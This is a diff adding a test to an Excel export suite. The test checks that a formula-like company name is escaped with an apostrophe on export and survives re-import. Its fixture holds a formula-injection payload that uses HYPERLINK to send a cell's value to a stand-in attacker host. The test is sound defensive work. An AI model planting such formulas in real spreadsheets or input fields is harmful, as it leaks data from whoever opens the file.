@@ -228,6 +228,25 @@ describe('Excel export', () => {
     await problem(await api.call('GET', '/excel/companies?q=acme'), 400);
     expect((await api.call('GET', '/excel/companies', { key: null })).status).toBe(401);
   });
+
+  test('a formula-like text is written with a leading apostrophe and imports back unchanged', async () => {
+    const legalName = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+    const id = await api.create('companies', { legalName });
+    try {
+      const route = `companies?legalName=${encodeURIComponent(legalName)}`;
+      const [row] = records((await exported(route)).worksheets[0]!);
+      expect(row).toMatchObject({ id, 'Legal name': `'${legalName}` });
+      const status = await runImport({
+        file: await upload((await download(await exportUrl(route))).bytes, 'guarded.xlsx'),
+        typeName: 'companies',
+        mode: 'update',
+      });
+      expect(status).toMatchObject({ state: 'completed', updated: 1, failed: 0 });
+      expect(await api.get(`/companies/${id}`)).toMatchObject({ legalName });
+    } finally {
+      expect((await api.call('DELETE', `/companies/${id}`)).status).toBe(200);
+    }
+  });
 });
 
 describe('Import', () => {
